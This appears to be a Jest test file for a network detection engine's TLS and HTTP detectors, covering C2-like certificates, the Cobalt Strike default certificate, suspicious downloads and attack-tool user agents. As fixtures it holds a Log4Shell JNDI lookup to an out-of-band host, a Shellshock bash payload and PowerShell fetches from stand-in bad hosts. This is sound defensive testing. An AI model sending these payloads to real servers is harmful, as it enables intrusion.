import type { HttpEvent, TelemetryType, TlsEvent } from '@vigil/contracts';
import { assertValidOcsfFinding, httpEvents, tlsEvents } from '@vigil/testing';
import { FindingAggregator } from '../../aggregation/finding-aggregator';
import { buildAlert } from '../../alerts/alert-builder';
import { DetectionEngine } from '../../engine';
import { buildDetectionFinding } from '../../ocsf/finding-builder';
import { CORE_FLAGS, FLAG_DICTIONARY } from '../../inventory/flags';
import { CORE_THREATS, THREAT_DICTIONARY } from '../../inventory/threats';
import { ATTACK_TACTICS, ATTACK_TECHNIQUES, parseAttackPair } from '../../mitre';
import { observeEvent } from '../../observed-event';
import { batch, httpEvent, iso, T0 } from '../../testing/fixtures';
import type { DetectionHit, ObservedEvent } from '../detection';
import { EventTableReader, EventTableWriter } from '../../state/event-table';
import { IndicatorStore } from '../../intel/indicator-store';
import { createWebDetectors, TlsServerPatternDetector, WEB_FLAGS, WEB_THREATS } from './index';

const detectors = createWebDetectors();

let seq = 0;
function observed(type: TelemetryType, event: object): ObservedEvent {
  return observeEvent(batch(`w${++seq}`, type, [event as never]), 0)!;
}
const tls = (extra: Partial<TlsEvent>) =>
  observed('tls', { ts: iso(T0), srcIP: '10.0.0.5', destIP: '45.77.10.20', destPort: 443, ...extra });
const http = (url: string, extra: Partial<HttpEvent> = {}) => observed('http', httpEvent(url, T0, '10.0.0.5', extra));

function hitsOf(event: ObservedEvent): DetectionHit[] {
  return detectors.filter((d) => d.types.includes(event.type)).flatMap((d) => d.inspect(event) ?? []);
}
function ids(event: ObservedEvent): string[] {
  return hitsOf(event).map((h) => h.detection.id);
}
function only(event: ObservedEvent, id: string): DetectionHit {
  const hits = hitsOf(event);
  expect(hits.map((h) => h.detection.id)).toEqual([id]);
  return hits[0];
}

const LE = "CN=R11,O=Let's Encrypt,C=US";
const VALID = { validFrom: iso(T0 - 30 * 86_400_000), validTo: iso(T0 + 60 * 86_400_000) };
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';

describe('web detection definitions', () => {
  it('have unique ids, known threats and flags, valid MITRE pairs, severities 1-5 and a key description', () => {
    const definitions = detectors.map((d) => d.definition);
    expect(new Set(definitions.map((d) => d.id)).size).toBe(definitions.length);
    for (const definition of definitions) {
      expect({ id: definition.id, threat: THREAT_DICTIONARY[definition.threat] !== undefined }).toEqual({ id: definition.id, threat: true });
      for (const flag of definition.flags) expect({ flag, known: FLAG_DICTIONARY[flag] !== undefined }).toEqual({ flag, known: true });
      for (const pair of definition.mitreAttack) {
        const { tacticUid, techniqueUid } = parseAttackPair(pair);
        expect(ATTACK_TACTICS[tacticUid]).toBeDefined();
        expect({ techniqueUid, named: ATTACK_TECHNIQUES[techniqueUid] !== undefined }).toEqual({ techniqueUid, named: true });
      }
      expect([1, 2, 3, 4, 5]).toContain(definition.severity);
      expect(definition.keyDescription.length).toBeGreaterThan(0);
    }
  });

  it('add only new threat and flag ids, merged into the dictionaries', () => {
    for (const id of Object.keys(WEB_THREATS)) {
      expect({ id, clash: CORE_THREATS[id] !== undefined }).toEqual({ id, clash: false });
      expect(THREAT_DICTIONARY[id]).toEqual(WEB_THREATS[id]);
    }
    for (const id of Object.keys(WEB_FLAGS)) {
      expect({ id, clash: CORE_FLAGS[id] !== undefined }).toEqual({ id, clash: false });
      expect(FLAG_DICTIONARY[id]).toEqual(WEB_FLAGS[id]);
    }
  });
});

// One odd certificate is not an alert, a pattern is (issue 11): the per-session certificate detections of earlier
// versions became evidence of the per-destination TLS pattern, tested here; only the stock C2 certificate alerts alone.
describe('TLS: suspicious servers, judged per host and destination', () => {
  const DAY = 86_400_000;
  const session = (i: number, extra: Partial<TlsEvent>, srcIP = '10.0.0.5') =>
    observed('tls', { ts: iso(T0 + i * 60_000), srcIP, destIP: '45.77.10.20', destPort: 443, ...extra });
  const run = (detector: TlsServerPatternDetector, events: ObservedEvent[]) => events.map((e) => detector.inspect(e));
  const LOCALHOST = { subject: 'CN=localhost', issuer: 'CN=localhost', validFrom: iso(T0 - DAY), validTo: iso(T0 + DAY) };

  it("fires on the issue's case: 20 sessions to one external IP on 50050/8443, self-signed CN=localhost valid two days, rotating JA3", () => {
    const detector = new TlsServerPatternDetector();
    const events = Array.from({ length: 20 }, (_, i) =>
      session(i, { ...LOCALHOST, destIP: '203.0.113.50', destPort: i % 2 === 0 ? 50050 : 8443, ja3: `${i.toString(16).padStart(2, '0')}${'a'.repeat(30)}` }),
    );
    const hits = run(detector, events);
    const fired = hits.flatMap((h, i) => (h === undefined ? [] : [{ i, h }]));
    // each destination fires at its third session, then once per further session
    expect(fired.map((f) => f.i)).toEqual([4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19]);
    const first = fired[0].h;
    expect(first.key).toBe('203.0.113.50:50050');
    expect(first.weight).toBe(3);
    expect(first.evidence).toHaveLength(3);
    expect(first.observations).toEqual(['3 sessions in 4 min', 'self-signed certificate', 'default/placeholder certificate', 'certificate valid for days only', 'TLS on a non-standard port', 'score 5']);
    expect(first.wisdom.flags).toEqual(['suspicious_tls', 'self_signed_cert', 'default_cert']);
    expect(fired[1].h.key).toBe('203.0.113.50:8443');
    expect(fired[2].h.weight).toBe(1);
  });

  it('stays silent on one session to a self-signed appliance, internal or on the Internet, and on repeated sessions with one weak sign', () => {
    const detector = new TlsServerPatternDetector();
    const appliance = { subject: 'CN=fw01.example-corp.net, O=Example Corp', issuer: 'CN=fw01.example-corp.net, O=Example Corp', validFrom: iso(T0 - 400 * DAY), validTo: iso(T0 + 3000 * DAY) };
    expect(run(detector, [session(0, { ...appliance, destIP: '192.168.1.1' })])).toEqual([undefined]);
    expect(run(detector, [session(0, { ...LOCALHOST, destIP: '10.1.2.3', destPort: 50050 }), session(1, { ...LOCALHOST, destIP: '10.1.2.3', destPort: 50050 }), session(2, { ...LOCALHOST, destIP: '10.1.2.3', destPort: 50050 })])).toEqual([undefined, undefined, undefined]);
    expect(run(detector, [session(0, LOCALHOST)])).toEqual([undefined]);
    // the same public self-signed appliance polled every minute for an hour: one weak sign only
    expect(run(detector, Array.from({ length: 60 }, (_, i) => session(i, appliance, '10.0.0.9'))).filter(Boolean)).toEqual([]);
    // CA-issued certificates carry no evidence at all
    expect(detector.evidence(session(0, { subject: 'CN=www.google.com', issuer: 'CN=GTS CA 1C3,O=Google Trust Services LLC,C=US', validFrom: iso(T0 - 30 * DAY), validTo: iso(T0 + 60 * DAY), destPort: 9443 }))).toBe(0);
  });

  it('forgets sessions more than an hour apart, and keeps hosts and destinations apart', () => {
    const detector = new TlsServerPatternDetector();
    expect(run(detector, [0, 70, 140, 210].map((m) => session(m, LOCALHOST))).filter(Boolean)).toEqual([]);
    expect(run(detector, [0, 1, 2].map((i) => session(i, LOCALHOST, `10.0.1.${i}`))).filter(Boolean)).toEqual([]);
    expect(run(detector, [0, 1, 2].map((i) => session(i, { ...LOCALHOST, destPort: 8443 + i }))).filter(Boolean)).toEqual([]);
  });

  it('reads default and placeholder certificates, test and interception CAs, unverifiable names, bad dates as evidence', () => {
    const detector = new TlsServerPatternDetector();
    const kinds = (extra: Partial<TlsEvent>) => {
      const mask = detector.evidence(session(0, { ...VALID, ...extra }));
      return ['self-signed', 'default-certificate', 'unverifiable-name', 'short-validity', 'invalid-dates', 'non-standard-port', 'known-bad-fingerprint'].filter((_, i) => mask & (1 << i));
    };
    const widgits = '/C=AU/ST=Some-State/O=Internet Widgits Pty Ltd';
    expect(kinds({ subject: widgits, issuer: widgits })).toEqual(['self-signed', 'default-certificate']);
    expect(kinds({ subject: 'CN=shop.example-store.net', issuer: "CN=(STAGING) Artificial Apricot R3,O=(STAGING) Let's Encrypt,C=US" })).toEqual(['default-certificate']);
    expect(kinds({ subject: 'CN=login.bank.com', issuer: 'CN=PortSwigger CA,OU=PortSwigger CA,O=PortSwigger,C=PortSwigger' })).toEqual(['default-certificate']);
    expect(kinds({ subject: 'CN=45.77.10.20', issuer: LE, destPort: 4444 })).toEqual(['unverifiable-name', 'non-standard-port']);
    expect(kinds({ subject: 'CN=old.site.org', issuer: LE, validFrom: iso(T0 - 200 * DAY), validTo: iso(T0 - 110 * DAY) })).toEqual(['invalid-dates']);
    expect(kinds({ subject: 'CN=new.site.org', issuer: LE, validFrom: iso(T0 + 5 * DAY), validTo: iso(T0 + 95 * DAY) })).toEqual(['invalid-dates']);
    expect(kinds({ subject: 'CN=a.site.org', issuer: LE, validFrom: '0001-01-01T00:00:00Z', validTo: '0001-01-01T00:00:00Z' })).toEqual([]);
    expect(kinds({ subject: 'CN=a.site.org', issuer: LE, validFrom: iso(T0 + 60_000), validTo: iso(T0 + 90 * DAY) })).toEqual([]);
    // port alone is no evidence: plenty of services run TLS on their own ports
    expect(kinds({ subject: 'CN=a.site.org', issuer: LE, destPort: 50050 })).toEqual([]);
  });

  it('counts a known-bad JA3 from the intel seed as strong evidence', () => {
    const bad = new TlsServerPatternDetector({ isKnownBadFingerprint: (ja3) => ja3 === '72a589da586844d7f0818ce684948eea' });
    const selfSigned = { subject: 'CN=update-srv.net', issuer: 'CN=update-srv.net', ...VALID, ja3: '72a589da586844d7f0818ce684948eea' };
    const hits = run(bad, [0, 1, 2].map((i) => session(i, selfSigned)));
    expect(hits[2]?.observations).toContain('known-bad JA3/JA3S');
    expect(run(new TlsServerPatternDetector(), [0, 1, 2].map((i) => session(i, selfSigned))).filter(Boolean)).toEqual([]);
  });

  it('counts a self-signed certificate for a name under a much-abused TLD as strong evidence, a public .net name not', () => {
    const detector = new TlsServerPatternDetector();
    const xyz = { subject: 'CN=portal-login.xyz', issuer: 'CN=portal-login.xyz' };
    const hits = run(detector, [0, 1, 2, 3, 4].map((i) => session(i, { ...xyz, destIP: '185.220.70.13' })));
    expect(hits.findIndex(Boolean)).toBe(2);
    expect(hits[2]!.observations).toEqual(['3 sessions in 2 min', 'self-signed certificate', 'self-signed certificate for a name under a much-abused TLD', 'score 3']);
    // one such session is not a pattern
    expect(run(new TlsServerPatternDetector(), [session(0, { ...xyz, destIP: '185.220.70.14' })])).toEqual([undefined]);
    // the same check-ins to a self-signed server with a name under an ordinary TLD: one weak sign only
    const net = { subject: 'CN=portal-login.net', issuer: 'CN=portal-login.net' };
    expect(run(new TlsServerPatternDetector(), [0, 1, 2, 3, 4].map((i) => session(i, { ...net, destIP: '185.220.70.15' }))).filter(Boolean)).toEqual([]);
    // a CA-issued certificate under the same TLD carries no evidence
    expect(detector.evidence(session(0, { subject: 'CN=portal-login.xyz', issuer: LE, ...VALID }))).toBe(0);
  });

  // Loads the whole intel seed, which can take longer than jest's default 5 s under the full test run's load.
  it("takes the intel seed's known-bad JA3 into the pattern (engine wiring), and only with a suspicious certificate", () => {
    const [pattern] = createWebDetectors({ intel: new IndicatorStore() });
    const seedJa3 = '724dedf93fb5a3636a0f1ee8fcec8801'; // Cobalt Strike, tools/intel/curated.vigil
    const cert = { subject: 'CN=update-srv.net', issuer: 'CN=update-srv.net', ...VALID };
    const withJa3 = [0, 1, 2].map((i) => pattern.inspect(session(i, { ...cert, destIP: '45.77.10.30', ja3: seedJa3 })));
    expect(withJa3[2]?.observations).toContain('known-bad JA3/JA3S');
    // a browser's JA3 to the same kind of server: self-signed alone
    expect([0, 1, 2].map((i) => pattern.inspect(session(i, { ...cert, destIP: '45.77.10.31', ja3: 'cd08e31494f9531f560d64c695473da9' }))).filter(Boolean)).toEqual([]);
    // the known-bad JA3 with a CA-issued certificate adds nothing here (the intel detection reports the fingerprint)
    expect([0, 1, 2].map((i) => pattern.inspect(session(i, { subject: 'CN=www.example.org', issuer: LE, ...VALID, destIP: '45.77.10.32', ja3: seedJa3 }))).filter(Boolean)).toEqual([]);
  }, 30_000);

  it('restores from a snapshot and goes on as if it never stopped', () => {
    const events = Array.from({ length: 6 }, (_, i) => session(i, { ...LOCALHOST, destPort: 50050 }));
    const straight = run(new TlsServerPatternDetector(), events).map((h) => h?.weight);
    const first = new TlsServerPatternDetector();
    run(first, events.slice(0, 2));
    const writer = new EventTableWriter();
    const state = JSON.parse(JSON.stringify(first.snapshot(writer)));
    const second = new TlsServerPatternDetector();
    second.restore(state, new EventTableReader(JSON.parse(JSON.stringify(writer.table()))));
    expect([undefined, undefined, ...run(second, events.slice(2)).map((h) => h?.weight)]).toEqual(straight);
    expect(second.stateStats().keys).toBe(1);
  });

  it('the stock Cobalt Strike certificate is reported as C2 (severity 5) on its own', () => {
    const cs = 'C=Earth,ST=Cyberspace,L=Somewhere,O=cobaltstrike,OU=AdvancedPenTesting,CN=Major Cobalt Strike';
    const hit = only(tls({ subject: cs, issuer: cs, ...VALID }), 'tls_c2_default_certificate');
    expect(hit.detection.severity).toBe(5);
    expect(hit.detection.threat).toBe('c2_communication');
    expect(hit.wisdom).toEqual({ flags: ['default_cert', 'c2'], labels: ['c2:Cobalt Strike'] });
  });
});

describe('HTTP detections', () => {
  it('executable downloads from unpopular domains and raw addresses, by extension or content type', () => {
    const hit = only(http('http://cdn.fresh-updates.top/files/invoice.exe', { status: 200, userAgent: CHROME }), 'http_executable_download');
    expect(hit.key).toBe('fresh-updates.top');
    expect(hit.wisdom).toEqual({ flags: ['executable'], domain: 'fresh-updates.top' });
    expect(hit.desc).toMatch(/^Executable download \(file invoice\.exe\) from cdn\.fresh-updates\.top \(fresh-updates\.top, not in the popularity rankings\)/);
    expect(only(http('fresh-updates.top/get?id=7', { contentType: 'application/x-msdownload; charset=binary', userAgent: CHROME }), 'http_executable_download').observations[0]).toBe('content type application/x-msdownload');
    expect(ids(http('http://45.77.10.50/a/run.ps1', { userAgent: CHROME }))).toEqual(['http_executable_download', 'http_raw_ip_url']);
    // Extensions and content types in any case, a content type after blanks; four-letter extensions too.
    expect(only(http('http://cdn.fresh-updates.top/files/SETUP.EXE', { userAgent: CHROME }), 'http_executable_download').observations[0]).toBe('file SETUP.EXE');
    expect(only(http('http://cdn.fresh-updates.top/pkg/app.msix', { userAgent: CHROME }), 'http_executable_download').observations[0]).toBe('file app.msix');
    const blanks = { contentType: '  Application/X-MSDownload', userAgent: CHROME };
    expect(only(http('fresh-updates.top/get?id=8', blanks), 'http_executable_download').observations[0]).toBe('content type application/x-msdownload');
    expect(ids(http('http://cdn.fresh-updates.top/files/invoice.exe.txt', { contentType: 'text/plain', userAgent: CHROME }))).toEqual([]);
  });

  it('executable downloads: silent for popular vendors, non-executables, failed requests and internal servers', () => {
    expect(ids(http('https://download.microsoft.com/download/setup.exe', { userAgent: CHROME }))).toEqual([]);
    expect(ids(http('http://au.download.windowsupdate.com/c/msdownload/update/x.msi', { userAgent: 'Microsoft BITS/7.8' }))).toEqual([]);
    expect(ids(http('http://cdn.fresh-updates.top/static/app.js', { userAgent: CHROME }))).toEqual([]);
    expect(ids(http('http://cdn.fresh-updates.top/files/invoice.exe', { status: 404, userAgent: CHROME }))).toEqual([]);
    expect(ids(http('http://10.1.1.1/tools/setup.exe', { userAgent: CHROME }))).toEqual([]);
  });

  it('attack tools and exploit payloads in the User-Agent', () => {
    expect(only(http('http://target-site.org/index.php?id=1', { userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }), 'http_attack_tool_user_agent').key).toBe('sqlmap');
    const jndi = only(http('https://www.google.com/', { userAgent: '${jndi:ldap://x.oast.fun/a}' }), 'http_attack_tool_user_agent');
    expect(jndi.desc).toMatch(/Log4Shell JNDI lookup payload/);
    expect(jndi.wisdom.labels).toEqual(['tool:Log4Shell JNDI lookup']);
    expect(only(http('https://www.google.com/', { userAgent: '() { :;}; /bin/bash -c "id"' }), 'http_attack_tool_user_agent').key).toBe('Shellshock function definition');
  });

  it('obsolete browser User-Agents', () => {
    const hit = only(http('http://gate.some-panel.xyz/gate.php', { userAgent: 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)' }), 'http_obsolete_user_agent');
    expect(hit.key).toBe('Internet Explorer 6');
    expect(only(http('https://www.google.com/', { userAgent: 'Mozilla/4.0 (compatible; Windows NT 5.0)' }), 'http_obsolete_user_agent').key).toBe('Windows 2000');
    expect(ids(http('https://www.google.com/', { userAgent: 'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)' }))).toEqual([]);
  });

  it('built-in Windows downloaders to unpopular destinations (threat), scripting clients (policy, severity 1)', () => {
    const ps = only(http('http://stage2.badhost.xyz/payload', { userAgent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1' }), 'http_lolbin_download');
    expect(ps.key).toBe('PowerShell|badhost.xyz');
    expect(ps.detection.severity).toBe(3);
    expect(only(http('http://stage2.badhost.xyz/p', { userAgent: 'CertUtil URL Agent' }), 'http_lolbin_download').wisdom.labels).toEqual(['client:CertUtil']);
    const curl = only(http('http://stage2.badhost.xyz/p', { userAgent: 'curl/8.5.0' }), 'http_scripting_client');
    expect(curl.detection.severity).toBe(1);
    expect(THREAT_DICTIONARY[curl.detection.threat].policy).toBe(true);
    // the same clients talking to popular sites, and Windows' certificate fetcher, are ordinary
    expect(ids(http('https://github.com/PowerShell/releases/latest', { userAgent: 'WindowsPowerShell/5.1' }))).toEqual([]);
    expect(ids(http('https://api.github.com/repos', { userAgent: 'curl/8.5.0' }))).toEqual([]);
    expect(ids(http('http://crl.some-ca.xyz/ca.crl', { userAgent: 'Microsoft-CryptoAPI/10.0' }))).toEqual([]);
  });

  it('raw public IP URLs (IPv4 and IPv6), not private ones nor host names', () => {
    expect(only(http('http://45.77.10.7:8080/index.html', { userAgent: CHROME }), 'http_raw_ip_url').key).toBe('45.77.10.7');
    expect(only(http('http://[2a01:4f8::1]/', { userAgent: CHROME }), 'http_raw_ip_url').key).toBe('2a01:4f8::1');
    expect(ids(http('http://192.168.1.1/login', { userAgent: CHROME }))).toEqual([]);
    expect(ids(http('https://www.wikipedia.org/', { userAgent: CHROME }))).toEqual([]);
  });

  it('raw content from paste and file-drop services, not a person reading a paste', () => {
    const hit = only(http('https://pastebin.com/raw/Xy12AbCd', { userAgent: CHROME }), 'http_paste_service');
    expect(hit.wisdom).toEqual({ flags: ['paste_site'], labels: ['paste:Pastebin'], domain: 'pastebin.com' });
    expect(only(http('https://paste.rs/abc', { userAgent: CHROME }), 'http_paste_service').key).toBe('paste.rs');
    expect(ids(http('https://pastebin.com/Xy12AbCd', { userAgent: CHROME }))).toEqual([]);
  });

  it('ignores events without a usable URL or User-Agent', () => {
    expect(ids(observed('http', { ts: iso(T0), srcIP: '10.0.0.5', url: '' }))).toEqual([]);
    expect(ids(observed('http', { ts: iso(T0), srcIP: '10.0.0.5', url: 'http://fresh-updates.top/', userAgent: 42 }))).toEqual([]);
  });
});

const CS = 'CN=Major Cobalt Strike,O=cobaltstrike';
const CRAFTED_TLS: TlsEvent[] = [
  // three sessions a minute apart to a self-signed, expired certificate on a non-standard port
  ...[0, 1, 2].map((m) => ({ ts: iso(T0 + m * 60_000), srcIP: '10.0.0.7', destIP: '45.77.10.20', destPort: 4443 + 1, subject: 'CN=c2.bad-host.xyz', issuer: 'CN=c2.bad-host.xyz', validFrom: iso(T0 - 400 * 86_400_000), validTo: iso(T0 - 10 * 86_400_000) })),
  { ts: iso(T0), srcIP: '10.0.0.7', destIP: '45.77.10.21', destPort: 443, subject: CS, issuer: CS, ...VALID },
];
const CRAFTED_HTTP: HttpEvent[] = [
  httpEvent('http://cdn.fresh-updates.top/files/invoice.exe', T0, '10.0.0.8', { userAgent: CHROME }),
  httpEvent('http://target-site.org/?id=1', T0, '10.0.0.8', { userAgent: 'sqlmap/1.7.2' }),
  httpEvent('https://pastebin.com/raw/Xy12AbCd', T0, '10.0.0.8', { userAgent: 'WindowsPowerShell/5.1' }),
  httpEvent('http://stage2.badhost.xyz/payload', T0, '10.0.0.8', { userAgent: 'WindowsPowerShell/5.1' }),
];
const CRAFTED_IDS = [
  'tls_suspicious_server', 'tls_c2_default_certificate',
  'http_executable_download', 'http_attack_tool_user_agent', 'http_paste_service', 'http_lolbin_download',
];

describe('web findings and alerts', () => {
  it('aggregate into valid OCSF findings whose description says why, and into legacy alerts', () => {
    const aggregator = new FindingAggregator(100);
    const events = [
      ...CRAFTED_TLS.map((e) => observed('tls', e)),
      ...CRAFTED_HTTP.map((e) => observed('http', e)),
    ];
    const threats: string[] = [];
    for (const event of events) {
      const hits = hitsOf(event);
      for (const hit of hits) aggregator.add(event.workspaceId, event.endpoint, hit, event.batchId);
      threats.push(...(buildAlert(event, hits)?.alert.threats ?? []));
    }
    const versions = aggregator.flush(T0 + 60_000);
    expect(new Set(versions.map((v) => v.detection.id))).toEqual(new Set(CRAFTED_IDS));
    for (const version of versions) {
      const finding = buildDetectionFinding(version, { processedMs: T0 + 61_000 });
      assertValidOcsfFinding(finding);
      expect(finding.finding_info.desc!.length).toBeGreaterThan(40);
    }
    expect(threats).toEqual(expect.arrayContaining(['c2_communication', 'suspicious_tls_server', 'executable_download', 'attack_tool_user_agent', 'lolbin_download']));
  });

  it('raise nothing on 20,000 generated benign TLS handshakes and HTTP requests', () => {
    const events = [
      ...tlsEvents(10_000, { seed: 5, startTs: T0 }).map((e) => observed('tls', e)),
      ...httpEvents(10_000, { seed: 5, startTs: T0 }).map((e) => observed('http', e)),
    ];
    const raised = events.flatMap((event) => hitsOf(event).map((h) => `${h.detection.id} ${h.key}`));
    expect(raised).toEqual([]);
  });
});

describe('web detections in the engine', () => {
  it('are registered: crafted TLS and HTTP batches yield their valid findings', () => {
    const engine = new DetectionEngine({ clock: () => T0 + 10 * 60_000 });
    const findings = [
      ...engine.process(batch('tls-1', 'tls', CRAFTED_TLS)).findings,
      ...engine.process(batch('http-1', 'http', CRAFTED_HTTP)).findings,
    ];
    const analytics = findings.map((f) => (f.finding as unknown as { finding_info: { analytic: { uid: string } } }).finding_info.analytic.uid);
    expect(new Set(analytics)).toEqual(new Set(CRAFTED_IDS));
    for (const f of findings) assertValidOcsfFinding(f.finding);
  });
});
